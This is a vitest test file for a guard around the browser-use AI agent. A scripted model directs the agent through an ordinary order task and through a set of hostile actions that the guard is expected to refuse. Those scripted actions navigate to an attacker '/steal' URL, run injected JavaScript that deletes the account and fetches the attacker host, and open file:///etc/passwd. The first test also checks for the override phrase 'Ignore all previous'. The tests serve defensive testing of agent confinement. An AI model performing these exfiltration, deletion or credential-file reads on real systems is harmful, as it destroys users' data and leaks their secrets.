import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, it, onTestFinished } from 'vitest';
import { type Step, startScriptedModel } from './scripted-model.ts';
import { PYTHON } from './tools.ts';
import { ATTACKER, SITE, startWorkSite, type WorkSite } from './work-site.ts';

const AGENT = fileURLToPath(new URL('browser_use_agent.py', import.meta.url));

/** The number that the state gives an element: `[12]<button …> Add one`. */
function indexOf(shown: string, pattern: RegExp): number {
  const state = shown.slice(shown.lastIndexOf('<browser_state>'));
  const index = pattern.exec(state)?.[1];
  if (index === undefined) throw new Error(`no ${pattern} in ${state}`);
  return Number(index);
}

async function run(
  site: WorkSite,
  task: string,
  steps: readonly Step[],
): Promise<{ readonly output: string; readonly shown: readonly string[] }> {
  const served = await site.serve();
  const model = await startScriptedModel(steps);
  const home = mkdtempSync(join(tmpdir(), 'cordon-browser-use-'));
  onTestFinished(async () => {
    await model.close();
    await served.stop();
    rmSync(home, { recursive: true, force: true });
  });
  const child = spawn(PYTHON, [AGENT, served.cdp, model.url, task], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: {
      ...process.env,
      HOME: home,
      ANONYMIZED_TELEMETRY: 'false',
      BROWSER_USE_CLOUD_SYNC: 'false',
      BROWSER_USE_VERSION_CHECK: 'false',
    },
  });
  let output = '';
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk) => (output += String(chunk)));
  await once(child, 'close');
  return { output, shown: model.shown };
}

it('browser-use does its everyday work', async () => {
  const site = await startWorkSite();
  onTestFinished(() => site.close());
  const { output, shown } = await run(site, 'Place an order', [
    () => [{ navigate: { url: `${SITE}/`, new_tab: false } }],
    (state) => [{ click: { index: indexOf(state, /\[(\d+)\]<button[^>]*id=count/) } }],
    (state) => [{ click: { index: indexOf(state, /\[(\d+)\]<button[^>]*id=ask/) } }],
    () => [{ navigate: { url: `${SITE}/second`, new_tab: true } }],
    () => [{ navigate: { url: `${SITE}/form`, new_tab: false } }],
    (state) => [{ input: { index: indexOf(state, /\[(\d+)\]<input[^>]*name=name/), text: 'Ada', clear: true } }],
    (state) => [{ select_dropdown: { index: indexOf(state, /\[(\d+)\]<select/), text: 'large' } }],
    (state) => [{ click: { index: indexOf(state, /\[(\d+)\]<input[^>]*name=gift/) } }],
    (state) => [{ click: { index: indexOf(state, /\[(\d+)\]<button/) } }],
  ]);
  expect(shown[2], output).toContain('counted 1');
  expect(shown.join('')).not.toContain('Ignore all previous');
  expect(site.requests.at(-1), output).toBe('POST work.test/order name=Ada&size=large&gift=on');
});

it('browser-use cannot be talked into anything that the task does not need', async () => {
  const site = await startWorkSite();
  onTestFinished(() => site.close());
  const script = `(async () => { await Promise.allSettled([fetch('/account', { method: 'DELETE' }), fetch('${ATTACKER}/steal', { mode: 'no-cors' })]); return 'tried'; })()`;
  const { output, shown } = await run(site, 'Place an order', [
    () => [{ navigate: { url: `${SITE}/`, new_tab: false } }],
    () => [{ navigate: { url: `${ATTACKER}/steal?a=1`, new_tab: false } }],
    () => [{ navigate: { url: `${SITE}/`, new_tab: false } }],
    () => [{ evaluate: { code: script } }],
    () => [{ navigate: { url: 'file:///etc/passwd', new_tab: true } }],
  ]);
  expect(shown.length, output).toBeGreaterThan(5);
  expect(shown[2], output).toContain('refused');
  expect(shown.join('')).not.toContain('root:x');
  expect(site.requests.filter((each) => !each.startsWith('GET work.test'))).toEqual([]);
});
